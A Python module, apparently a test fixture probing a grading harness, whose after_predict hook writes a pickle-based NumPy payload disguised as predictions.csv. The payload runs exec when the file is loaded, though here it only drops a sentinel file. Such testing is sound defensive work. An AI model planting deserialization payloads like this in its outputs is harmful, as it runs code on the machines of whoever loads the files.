"""predictions.csv is an .npy file of objects that run code where it is read."""

import numpy as np



CODE = (
    "import os\nfor name in ('TAKEHOME_HOME', 'TMPDIR'):\n"
    " top = os.environ.get(name)\n"
    " if top: open(top + '/sentinel.txt', 'w').write('it ran')\n"
)


class Evil:
    """Runs code when it is read."""

    def __reduce__(self):
        return exec, (CODE,)


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    with open(output, "wb") as file:
        np.save(file, np.array([Evil()], dtype=object), allow_pickle=True)
    print("ATTACK wrote")
